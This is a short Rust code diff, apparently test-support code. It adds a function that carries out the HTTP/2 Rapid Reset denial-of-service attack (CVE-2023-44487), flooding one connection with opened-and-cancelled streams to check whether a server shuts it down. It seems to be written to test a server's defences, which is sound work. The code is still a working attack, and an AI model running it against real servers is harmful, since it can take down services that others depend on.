@@ -151,3 +151,39 @@ pub fn with_h2(config: &Arc<ClientConfig>) -> Arc<ClientConfig> {
     config.alpn_protocols = vec![b"h2".to_vec()];
     Arc::new(config)
 }
+
+/// A rapid-reset attacker (CVE-2023-44487): on one h2c connection, open
+/// `streams` requests and reset each at once. Returns whether the server
+/// ended the connection (a GOAWAY or a close) within a second of the flood.
+pub async fn rapid_reset(addr: SocketAddr, streams: usize) -> bool {
+    let Ok(stream) = TcpStream::connect(addr).await else {
+        return false;
+    };
+    let Ok((mut sender, connection)) = ::h2::client::handshake(stream).await else {
+        return false;
+    };
+    let mut driver = tokio::spawn(async move {
+        let _ = connection.await;
+    });
+    let mut opened = 0usize;
+    for _ in 0..streams {
+        sender = match sender.ready().await {
+            Ok(ready) => ready,
+            Err(_) => break,
+        };
+        let request = Request::get(format!("http://{addr}/")).body(()).unwrap();
+        match sender.send_request(request, true) {
+            Ok((_response, mut stream)) => {
+                stream.send_reset(::h2::Reason::CANCEL);
+                opened += 1;
+            }
+            Err(_) => break,
+        }
+    }
+    let _ = opened;
+    let ended = tokio::time::timeout(std::time::Duration::from_secs(1), &mut driver)
+        .await
+        .is_ok();
+    driver.abort();
+    ended
+}
